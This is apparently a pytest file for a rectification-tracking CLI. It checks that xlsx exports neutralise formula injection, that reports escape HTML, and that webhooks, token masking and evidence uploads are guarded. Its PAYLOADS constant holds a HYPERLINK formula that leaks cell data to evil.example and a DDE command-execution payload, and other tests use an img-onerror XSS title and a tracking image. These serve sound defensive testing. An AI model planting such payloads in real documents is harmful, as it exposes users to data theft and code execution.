"""What the system writes out is safe: formula-looking text stays text in every xlsx (and
comes back the same through the ledger import), Markdown reports carry no HTML, webhook
contacts stay on the allowlist, tokens are masked wherever an address is shown, and evidence
files are checked before they are stored. SQLite and PostgreSQL."""

from __future__ import annotations

import json
import logging
from datetime import date, datetime, timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select
from typer.testing import CliRunner

from tests.sinks import HttpSink
from tests.support import FIVE_NEVER, LOOPBACK, OFFICE, UNIT, new_issue, office_act
from tests.test_ledger import other_engine
from workflow.cli import app
from workflow.clock import SHANGHAI, FrozenClock
from workflow.config import ROBOT_HOSTS, Settings, WebhookHosts
from workflow.db import Database
from workflow.documents.briefing import write_monthly
from workflow.documents.disclosure import write_public
from workflow.documents.figures import progress_report
from workflow.documents.ledger_export import export_ledger
from workflow.documents.ledger_import import import_ledger
from workflow.errors import ConfigurationError, InputError, PermanentDeliveryError
from workflow.issues import queries
from workflow.issues.engine import Engine
from workflow.models import Contact, Issue, Notification
from workflow.notify.channels import (
    ChannelRegistry,
    OutgoingMessage,
    WebhookChannel,
    mask_secrets,
)
from workflow.notify.contacts import add_contact, shown_contacts
from workflow.notify.delivery import deliver_due

PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&B2,"x")', "=cmd|' /C calc'!A0", "+1",
            "-1", "@SUM(A1)"]
HOSTILE_TITLE = "<img src=x onerror=alert(1)>"
TOKEN = "c0ffee00deadbeef0123456789abcdef"
ROBOT = f"https://oapi.dingtalk.com/robot/send?access_token={TOKEN}"

# --- xlsx: text that looks like a formula stays text ---------------------------------------


def text_cells_of(path: Path) -> list[tuple[str, object]]:
    """(data_type, value) of every non-empty cell of every sheet, reopened with openpyxl."""
    book = load_workbook(path)
    return [(cell.data_type, cell.value) for sheet in book.worksheets
            for row in sheet.iter_rows() for cell in row if cell.value is not None]


def hostile_issues(engine: Engine) -> list[int]:
    return [new_issue(engine, version=2, plan="方案", number=str(n), title=text,
                      measures=text, category=text)
            for n, text in enumerate(PAYLOADS, start=1)]


def test_exported_ledger_keeps_formula_payloads_as_text_and_they_come_back_exactly(
        engine: Engine, clock: FrozenClock, tmp_path: Path) -> None:
    # Given issues whose 反馈问题, 整改措施 and 问题类别 are formula payloads
    hostile_issues(engine)
    # When the ledger is exported
    exported = tmp_path / "台账.xlsx"
    assert export_ledger(engine, exported, checkpoint=None, plan="方案") == len(PAYLOADS)
    # Then no cell of the workbook is a formula, and each payload is there as written
    cells = text_cells_of(exported)
    assert not [value for kind, value in cells if kind == "f"]
    values = [value for _, value in cells]
    assert all(values.count(text) == 3 for text in PAYLOADS)
    # And 序号 stays a number
    book = load_workbook(exported)
    assert [row[0].value for row in book["整改情况清单"].iter_rows(min_row=2)] == [1, 2, 3, 4, 5]
    # When the export is imported into another database
    other = other_engine(tmp_path, clock)
    result = import_ledger(other, exported, plan="方案", actor=OFFICE)
    # Then every title comes back exactly, =HYPERLINK(...) included
    assert result.created == len(PAYLOADS)
    with other.db.session() as session:
        back = {i.number: (i.title, i.measures, i.category)
                for i in session.scalars(select(Issue))}
    assert back == {str(n): (text, text, text) for n, text in enumerate(PAYLOADS, start=1)}


def test_public_list_keeps_formula_payloads_as_text(engine: Engine, tmp_path: Path) -> None:
    # Given issues whose titles and measures are formula payloads
    hostile_issues(engine)
    # When the public list is written
    _, xlsx = write_public(engine, out=tmp_path / "public", checkpoint=None, plan="方案")
    # Then no cell is a formula and every payload is the text that was given
    cells = text_cells_of(xlsx)
    assert not [value for kind, value in cells if kind == "f"]
    values = [value for _, value in cells]
    assert all(values.count(text) == 2 for text in PAYLOADS)


def test_control_characters_in_text_do_not_stop_an_export(engine: Engine,
                                                          tmp_path: Path) -> None:
    # Given an issue whose title holds an escape and a bell, as pasted text sometimes does
    new_issue(engine, version=2, plan="方案", number="1", title="油烟\x1b[31m扰民\x07")
    # When the ledger and the public list are written
    exported = tmp_path / "台账.xlsx"
    assert export_ledger(engine, exported, checkpoint=None, plan="方案") == 1
    _, xlsx = write_public(engine, out=tmp_path / "public", checkpoint=None, plan="方案")
    # Then both files are written, the characters xlsx cannot hold shown as U+FFFD
    for path in (exported, xlsx):
        assert "油烟\ufffd[31m扰民\ufffd" in [value for _, value in text_cells_of(path)]


def test_a_nul_character_is_refused_before_it_reaches_the_database(engine: Engine) -> None:
    with pytest.raises(InputError, match="NUL character"):
        new_issue(engine, version=2, title="油烟\x00扰民")
    with pytest.raises(InputError, match="cooperating_units contains a NUL"):
        new_issue(engine, version=2, title="油烟", cooperating_units=("甲\x00",))
    assert queries.list_issues(engine.db, engine.registry, queries.IssueFilter(),
                               now=engine.clock.now()) == []
    issue_id = new_issue(engine, version=2, title="油烟")
    with pytest.raises(InputError, match="comment contains a NUL"):
        engine.fire(issue_id, "start", actor=UNIT, comment="开始\x00")
    assert queries.get_issue(engine.db, issue_id).state == "assigned"


# --- Markdown reports carry no HTML ---------------------------------------------------------


def test_reports_show_a_hostile_title_as_text(engine: Engine, clock: FrozenClock,
                                              tmp_path: Path) -> None:
    # Given an overdue issue whose title is an HTML payload, and one with a Markdown image
    new_issue(engine, title=HOSTILE_TITLE)
    new_issue(engine, title="![x](http://evil.example/track.png) | 第二列")
    clock.set(datetime(2026, 8, 5, 9, 0, tzinfo=SHANGHAI))
    # When the monthly briefing and the progress report are written as Markdown and HTML
    markdown, page, _ = write_monthly(engine, month="2026-07", out=tmp_path / "monthly")
    report = progress_report(engine)
    # Then no Markdown output holds a tag or an image it did not write itself
    for text in (markdown.read_text(encoding="utf-8"), report.markdown()):
        assert "<img" not in text
        assert "&lt;img src=x onerror=alert(1)&gt;" in text
        assert "![x](http" not in text and "!\\[x\\](http" in text
    # And the HTML pages show it escaped (the briefing's one image is its chart)
    html = page.read_text(encoding="utf-8")
    assert "<img src=x" not in html and "<img src=x" not in report.html()
    assert html.count("<img") == 1 and '<img src="burndown-2026-07.png"' in html


# --- webhook allowlist ---------------------------------------------------------------------


def test_webhook_hosts_default_to_the_robots_and_parse_bare_host_names() -> None:
    # Given no RECTIFY_WEBHOOK_HOSTS: the four robot hosts, https only
    assert Settings.from_env({}).webhook_hosts == WebhookHosts(ROBOT_HOSTS, plain_http=False)
    # When hosts are listed: those, lower case, and plain http allowed for them
    listed = Settings.from_env({"RECTIFY_WEBHOOK_HOSTS": " OAPI.dingtalk.com, 127.0.0.1,[::1]"})
    assert listed.webhook_hosts == WebhookHosts(("oapi.dingtalk.com", "127.0.0.1", "::1"),
                                                plain_http=True)
    # And an entry that is not a host name is refused, naming it and the form expected
    for bad in ("https://oapi.dingtalk.com", "127.0.0.1:8080", "a,,b"):
        with pytest.raises(ConfigurationError, match="is not a host name; list bare host"):
            Settings.from_env({"RECTIFY_WEBHOOK_HOSTS": bad})


@pytest.mark.parametrize(("address", "rule"), [
    ("http://127.0.0.1:8080/hook", "host '127.0.0.1' is not on the allowlist"),
    ("https://evil.example/robot/send", "host 'evil.example' is not on the allowlist"),
    ("http://oapi.dingtalk.com/robot/send?access_token=abc", "must use https://"),
    ("ftp://oapi.dingtalk.com/x", "is not an https:// URL"),
    ("https://oapi.dingtalk.com:http/x", "is not an https:// URL"),
])
def test_contact_off_the_allowlist_is_refused_and_nothing_is_stored(
        db: Database, address: str, rule: str) -> None:
    # When a webhook contact is added under the default allowlist
    with pytest.raises(InputError, match=rule) as refused:
        add_contact(db, "相山区", "webhook", address, by=office_act(db))
    # Then the message names the rule and the allowed hosts, and nothing was stored
    assert "RECTIFY_WEBHOOK_HOSTS" in str(refused.value)
    if "allowlist" in rule:
        assert ", ".join(ROBOT_HOSTS) in str(refused.value)
    with db.session() as session:
        assert session.scalars(select(Contact)).all() == []
    # And a robot on https is taken, as is loopback over http once it is allowlisted
    add_contact(db, "相山区", "webhook", ROBOT, by=office_act(db))
    add_contact(db, "杜集区", "webhook", "http://127.0.0.1:8080/hook", hosts=LOOPBACK,
                by=office_act(db))


def test_a_host_taken_off_the_allowlist_is_refused_at_delivery_without_a_request(
        db: Database, clock: FrozenClock, http_sink: HttpSink,
        caplog: pytest.LogCaptureFixture) -> None:
    # Given a loopback receiver added while loopback was allowlisted, and a message for it
    address = http_sink.url(f"/hook?access_token={TOKEN}")
    add_contact(db, UNIT.name, "webhook", address, hosts=LOOPBACK, by=office_act(db))
    with db.transaction() as conn:
        conn.execute(Notification.__table__.insert().values(
            dedupe_key="k:1", kind="reminder", level="red", recipient=UNIT.name,
            channel="webhook", address=address, subject="督办", body="请整改", status="pending",
            attempts=0, next_attempt_at=clock.now(), created_at=clock.now()))
    # When the outbox is delivered by a channel under the default allowlist
    channels = ChannelRegistry([WebhookChannel(timeout=5, clock=clock)])
    with caplog.at_level(logging.INFO):
        report = deliver_due(db, channels, now=clock.now(), owner="w1")
    # Then nothing reached the receiver; the row is a dead letter at once (a retry cannot
    # succeed) and says why, without the token
    assert (report.sent, report.dead) == (0, 1) and http_sink.received == []
    with db.session() as session:
        row = session.scalars(select(Notification)).one()
    assert (row.status, row.attempts) == ("dead", 1)
    assert "host '127.0.0.1' is not on the allowlist" in (row.last_error or "")
    assert TOKEN not in (row.last_error or "") and TOKEN not in caplog.text
    # And the channel raises the permanent kind of delivery error
    message = OutgoingMessage(id=1, dedupe_key="k", recipient=UNIT.name, channel="webhook",
                              address=address, subject="s", body="b", kind="reminder",
                              level="red", issue_id=None)
    with pytest.raises(PermanentDeliveryError, match=r"not sent: webhook host '127\.0\.0\.1'"):
        WebhookChannel(clock=clock).prepare(message)


# --- secrets masked ------------------------------------------------------------------------


def test_mask_hides_every_token_form() -> None:
    masked = mask_secrets(
        f"{ROBOT}&timestamp=1&sign=abcdefgh12345 "
        f"https://qyapi.weixin.qq.com/cgi-bin/webhook/send?key={TOKEN} "
        f"https://open.feishu.cn/open-apis/bot/v2/hook/{TOKEN} "
        f"https://user:hunter2hunter2@example.org/x?token=t&secret=SECabcdefgh")
    assert TOKEN not in masked and "abcdefgh12345" not in masked
    assert "hunter2" not in masked and "SECabcdefgh" not in masked
    assert f"access_token={TOKEN[:2]}…（已隐藏）" in masked
    assert "token=（已隐藏）" in masked and "timestamp=1" in masked


@pytest.fixture
def rectify(db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """`rectify ARGS` on a training database with its office person 市整改办 and the units
    相山区 and 市生态环境局, acting as the office."""
    monkeypatch.setenv("DATABASE_URL", db.engine.url.render_as_string(hide_password=False))
    monkeypatch.setenv("RECTIFY_EVIDENCE_DIR", str(tmp_path / "evidence"))
    monkeypatch.setenv("RECTIFY_ACTOR", "市整改办")
    monkeypatch.delenv("RECTIFY_WEBHOOK_HOSTS", raising=False)
    runner = CliRunner()

    def run(*args: str, code: int = 0) -> str:
        result = runner.invoke(app, list(args))
        assert result.exit_code == code, (args, result.output, result.exception)
        return result.output

    run("init", "--training", "--admin", "市整改办")
    for unit in ("相山区", "市生态环境局"):
        run("units", "add", unit)
    return run


def test_contacts_add_refuses_loopback_with_the_rule_and_stores_nothing(rectify) -> None:
    # When a webhook to loopback is added without the allowlist naming it
    out = rectify("contacts", "add", "相山区", "--channel", "webhook", "--address",
                  "http://127.0.0.1:9000/hook", code=2)
    # Then it is refused with the rule and the allowed hosts, and no contact exists
    assert "not on the allowlist" in out and "oapi.dingtalk.com" in out
    assert json.loads(rectify("contacts", "list", "--json")) == []


def test_no_token_shows_in_contacts_outbox_audit_doctor_or_logs(
        rectify, db: Database, monkeypatch: pytest.MonkeyPatch,
        caplog: pytest.LogCaptureFixture) -> None:
    # Given the unit's DingTalk robot with a signing secret, and a Feishu robot
    secret = "SEC0123456789abcdef0123456789abcdef"
    rectify("contacts", "add", "王副市长", "--channel", "webhook", "--address", ROBOT,
            "--option", "preset=dingtalk", "--option", f"secret={secret}")
    feishu = f"https://open.feishu.cn/open-apis/bot/v2/hook/{TOKEN}"
    rectify("contacts", "add", "整改办", "--channel", "webhook", "--address", feishu)
    # And a red notice queued for the leader
    issue = json.loads(rectify("issue", "create", "--title", "扬尘", "--unit", "相山区",
                               "--leader", "王副市长", "--deadline", "2026-01-31", "--json"))
    rectify("issue", "fire", str(issue["id"]), "start", "--as", "相山区", "--role", "unit")
    rectify("sweep", "--now", "2026-03-15T09:00", "--as", "市整改办")
    # And the robots' hosts taken off the allowlist, so delivery fails and logs why
    monkeypatch.setenv("RECTIFY_WEBHOOK_HOSTS", "127.0.0.1")
    with caplog.at_level(logging.INFO):
        rectify("outbox", "deliver", "--now", "2026-03-15T09:05", "--as", "市整改办")
    # When every listing is printed
    shown = [rectify("contacts", "list"), rectify("contacts", "list", "--json"),
             rectify("outbox", "list"), rectify("outbox", "list", "--json"),
             rectify("audit", "list", "--json"), rectify("doctor", "--json", code=1)]
    ids = [row["id"] for row in json.loads(shown[3]) if row["channel"] == "webhook"]
    assert ids
    shown += [rectify("outbox", "show", str(i)) for i in ids]
    shown += [rectify("outbox", "show", str(i), "--json") for i in ids]
    # Then neither token nor secret appears anywhere, nor in the log
    for text in [*shown, caplog.text]:
        assert TOKEN not in text and secret not in text
    # And the listings show the masked forms
    contacts = json.loads(shown[1])
    assert {c["address"] for c in contacts} == {
        f"https://oapi.dingtalk.com/robot/send?access_token={TOKEN[:2]}…（已隐藏）",
        f"https://open.feishu.cn/open-apis/bot/v2/hook/{TOKEN[:2]}…（已隐藏）"}
    assert [c["options"] for c in contacts if c["name"] == "王副市长"] == [
        {"preset": "dingtalk", "secret": "SE…（已隐藏）"}]
    assert shown_contacts(db) == contacts
    doctor = {c["name"]: c for c in json.loads(shown[5][shown[5].index("{"):])["checks"]}
    assert doctor["contacts"]["status"] == "warn"
    assert "2 webhook contact(s) off the allowlist" in doctor["contacts"]["detail"]
    assert "access_token=c0…（已隐藏）" in doctor["contacts"]["detail"]


# --- outbox show ---------------------------------------------------------------------------


def test_outbox_show_prints_the_text_recipient_status_and_attempts(rectify) -> None:
    # Given a red notice delivered to the log
    issue = json.loads(rectify("issue", "create", "--title", "黑臭水体", "--unit", "相山区",
                               "--leader", "王副市长", "--deadline", "2026-01-31", "--json"))
    rectify("issue", "fire", str(issue["id"]), "start", "--as", "相山区", "--role", "unit")
    rectify("sweep", "--now", "2026-02-01T10:00", "--as", "市整改办")
    rectify("outbox", "deliver", "--now", "2026-02-01T10:01", "--as", "市整改办")
    rows = json.loads(rectify("outbox", "list", "--json"))
    leader = next(r for r in rows if r["recipient"] == "王副市长")
    # When it is shown
    detail = json.loads(rectify("outbox", "show", str(leader["id"]), "--json"))
    text = rectify("outbox", "show", str(leader["id"]))
    # Then it has its rendered subject and body, recipient, status and attempts, in
    # Asia/Shanghai time
    assert detail["subject"] == leader["subject"] and "黑臭水体" in detail["body"]
    assert (detail["recipient"], detail["status"], detail["attempts"]) == ("王副市长", "sent", 1)
    assert detail["sent_at"].startswith("2026-02-01T10:01") and \
        detail["sent_at"].endswith("+08:00")
    assert "not a record of each attempt" in detail["attempts_note"]
    for part in (detail["subject"], "黑臭水体", "王副市长", "sent", "attempts 1",
                 "2026-02-01T10:01", "Asia/Shanghai"):
        assert part in text
    # And an unknown id is a clear error
    out = rectify("outbox", "show", "999", code=1)
    assert "no outbox message 999" in out and "outbox list" in out


# --- evidence ------------------------------------------------------------------------------

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00"
PDF = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"


@pytest.mark.parametrize(("name", "content", "rule"), [
    ("空文件.txt", b"", "is empty (0 bytes)"),
    ("大文件.pdf", PDF + b"0" * 3000, "the limit is 0.002 MB (RECTIFY_EVIDENCE_MAX_MB)"),
    ("程序.exe", b"MZ\x90\x00", "type .exe is not allowed; allowed types: pdf, jpg, jpeg"),
    ("无扩展名", b"text", "type no extension is not allowed"),
    ("假报告.pdf", "其实是文字".encode(), "its content is plain text, not a .pdf file"),
    ("照片.jpg", PNG, "its content is image/png, not a .jpg file"),
    ("记录.txt", b"\x00\x01\x02binary", "its content is binary data, not a .txt file"),
])
def test_evidence_is_refused_by_rule_and_nothing_is_stored(
        engine: Engine, tmp_path: Path, name: str, content: bytes, rule: str) -> None:
    # Given an issue in progress and a store that takes 2 KB at most
    engine.evidence.max_bytes = 2000
    issue_id = new_issue(engine)
    engine.fire(issue_id, "start", actor=UNIT)
    path = tmp_path / name
    path.write_bytes(content)
    # When the unit applies for acceptance with the file
    with pytest.raises(InputError, match=rule.replace("(", r"\(").replace(")", r"\)")):
        engine.fire(issue_id, "apply_acceptance", actor=UNIT, comment="已完成",
                    evidence=[path])
    # Then nothing was stored and the issue did not move
    assert not (tmp_path / "evidence").exists() or not any((tmp_path / "evidence").rglob("*.*"))
    assert not [p for p in (tmp_path / "evidence").rglob("*") if p.is_file()]
    assert queries.get_issue(engine.db, issue_id).state == "in_progress"


def test_allowed_evidence_types_are_stored(engine: Engine, tmp_path: Path) -> None:
    # Given a PNG photo, a PDF report and a text record
    files = []
    for name, content in (("现场照片.png", PNG), ("检测报告.PDF", PDF),
                          ("记录.txt", "核查记录".encode())):
        files.append(tmp_path / name)
        files[-1].write_bytes(content)
    # When they are stored, they are kept with their names and sizes
    refs = engine.evidence.resolve(files)
    assert [(r.name, r.size) for r in refs] == [(f.name, f.stat().st_size) for f in files]
    assert all(engine.evidence.path_of(r.sha256).is_file() for r in refs)


def test_evidence_limit_comes_from_the_environment() -> None:
    assert Settings.from_env({}).evidence_max_mb == 50
    assert Settings.from_env({"RECTIFY_EVIDENCE_MAX_MB": "5"}).evidence_max_mb == 5
    with pytest.raises(ConfigurationError, match="RECTIFY_EVIDENCE_MAX_MB='lots'"):
        Settings.from_env({"RECTIFY_EVIDENCE_MAX_MB": "lots"})


# --- rehearsal on a training database --------------------------------------------------------


def test_an_office_rehearses_a_whole_clearance_through_the_public_notice(
        rectify, tmp_path: Path) -> None:
    # Given an issue on a training database, applied for acceptance with evidence
    issue = json.loads(rectify("issue", "create", "--title", "餐饮油烟扰民", "--unit", "相山区",
                               "--acceptance-unit", "市生态环境局", "--deadline",
                               "2099-12-31", "--json"))
    issue_id = str(issue["id"])
    evidence = tmp_path / "清单.txt"
    evidence.write_text("整改清单", encoding="utf-8")
    rectify("issue", "fire", issue_id, "start", "--as", "相山区", "--role", "unit")
    rectify("issue", "fire", issue_id, "apply_acceptance", "--as", "相山区", "--role", "unit",
            "--comment", "已完成", "--evidence", str(evidence))
    # And the acceptance unit's site check opens the 7-day 公示, rehearsed in 2099
    start = datetime(2099, 3, 1, 9, 0)
    rectify("issue", "fire", issue_id, "site_check", "--as", "市生态环境局", "--role",
            "acceptor", "--comment", "同意公示", "--now", start.isoformat())
    shown = json.loads(rectify("issue", "show", issue_id, "--json"))
    assert (shown["state"], shown["stage"]) == ("acceptance", "public_notice")
    # When the office signs off 3 days in, it is refused: the notice runs
    early = rectify("issue", "fire", issue_id, "sign_off", "--comment", "审签", "--now",
                    (start + timedelta(days=3)).isoformat(), code=1)
    assert "runs until" in early
    # And the sweep and the delivery run on the rehearsal clock too
    rectify("sweep", "--now", (start + timedelta(days=8)).isoformat(), "--as", "市整改办")
    rectify("outbox", "deliver", "--now", (start + timedelta(days=8)).isoformat(),
            "--as", "市整改办")
    # Then 8 days later the office signs off and clears the issue
    later = (start + timedelta(days=8)).isoformat()
    rectify("issue", "fire", issue_id, "sign_off", "--comment", "公示无异议", "--now", later)
    checks = [arg for key, value in FIVE_NEVER.items() for arg in ("--check", f"{key}={value}")]
    cleared = rectify("issue", "fire", issue_id, "clear", "--comment", "销号", "--evidence",
                      str(evidence), *checks, "--now", later)
    assert "acceptance → cleared" in cleared
    # And the history verifies, with the clearance at the rehearsed time
    assert "history intact: 1 issue(s), 6 event(s)" in rectify("verify")
    history = json.loads(rectify("issue", "history", issue_id, "--json"))
    assert history[-1]["trigger"] == "clear" and history[-1]["at"].startswith("2099-03-09")
    # And each clock move is on the audit trail
    moves = [e for e in json.loads(rectify("audit", "list", "--json"))
             if e["action"] == "clock_moved"]
    assert {m["subject"] for m in moves} == {"issue fire", "sweep", "outbox deliver"}


@pytest.mark.parametrize("command", [["issue", "fire", "1", "start", "--as", "相山区",
                                      "--role", "unit"],
                                     ["outbox", "deliver", "--as", "市整改办"]])
def test_now_is_refused_on_a_database_for_real_work(
        db: Database, monkeypatch: pytest.MonkeyPatch, command: list[str]) -> None:
    # Given a database created for real work, with one issue
    monkeypatch.setenv("DATABASE_URL", db.engine.url.render_as_string(hide_password=False))
    monkeypatch.setenv("RECTIFY_ACTOR", "市整改办")
    runner = CliRunner()
    assert runner.invoke(app, ["init"]).exit_code == 0
    assert runner.invoke(app, ["issue", "create", "--title", "问题", "--unit", "相山区",
                               "--deadline", date(2099, 1, 1).isoformat()]).exit_code == 0
    # When the command is asked to act in the future
    result = runner.invoke(app, [*command, "--now", "2099-07-10T09:00"])
    # Then it is refused with the rule, and the issue did not move
    assert result.exit_code == 2, result.output
    assert "only a training database" in result.output
    shown = json.loads(runner.invoke(app, ["issue", "show", "1", "--json"]).output)
    assert (shown["state"], shown["version"]) == ("assigned", 1)
